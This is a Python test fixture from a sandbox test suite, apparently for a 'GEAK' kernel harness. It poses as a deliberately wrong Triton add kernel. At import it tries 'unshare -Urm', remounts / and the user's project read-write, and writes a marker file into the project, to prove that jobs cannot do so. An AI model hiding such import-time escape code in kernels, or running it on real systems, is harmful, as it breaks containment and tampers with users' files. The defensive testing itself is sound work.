"""Attack 9: at import, create a user namespace (`unshare -Urm`, the util-linux program: no
ctypes needed) to hold every capability inside it, remount / read-write there, and write into
the user's project (HINTS["project"]) from it. The kernel itself is wrong (x + y + 1). Proves:
a job cannot create a user namespace (so no capabilities to remount with), and the user's
project is unchanged."""

import os
import subprocess
import sys

import torch
import triton
import triton.language as tl

HINTS = "@@GEAK_ATTACK_HINTS@@"  # the test writes {"marker": ..., "project": ...} here
MARKER = HINTS["marker"] if isinstance(HINTS, dict) else "geak_attack_manual"


def _say(msg):
    print(f"GEAK_ATTACK userns_remount: {msg}", file=sys.stderr, flush=True)


def _attack():
    project = (HINTS.get("project") if isinstance(HINTS, dict) else None) or os.getcwd()
    remount = (f"mount -o remount,bind,rw / ; mount -o remount,bind,rw {project} ; "
               f"echo GEAK_ATTACK > {project}/{MARKER}_from_userns.txt && echo WROTE")
    for args in (["unshare", "-U"], ["unshare", "-Ur"], ["unshare", "-Urm"]):
        script = "echo USERNS_CREATED uid=$(id -u)" + ("; " + remount if "-Urm" in args else "")
        try:
            p = subprocess.run(args + ["sh", "-c", script], capture_output=True, text=True, timeout=20)
            _say(f"unshare {' '.join(args[1:])}: rc={p.returncode} out={p.stdout.strip()!r} "
                 f"err={p.stderr.strip()[:200]!r}")
        except (OSError, subprocess.SubprocessError) as e:
            _say(f"unshare could not run: {e}")


_attack()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + y + 1.0, mask=mask)  # wrong


def add(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)
    return out
